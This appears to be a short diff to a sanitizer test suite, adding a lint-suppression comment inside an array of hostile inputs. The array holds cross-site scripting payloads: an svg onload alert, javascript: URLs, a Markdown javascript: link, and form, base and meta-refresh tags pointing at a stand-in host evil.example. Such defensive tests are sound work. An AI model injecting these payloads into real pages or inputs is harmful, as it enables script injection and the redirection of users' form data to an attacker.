@@ -23,6 +23,7 @@ const hostile = [
   '<svg onload=alert(1)>',
   '"><form action=https://evil.example><base href=https://evil.example>',
   '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  // oxlint-disable-next-line no-script-url -- the attack itself
   'javascript:alert(1)//http://x',
   '[看这里](javascript:alert(1))',
   '&lt;b&gt; &amp;',
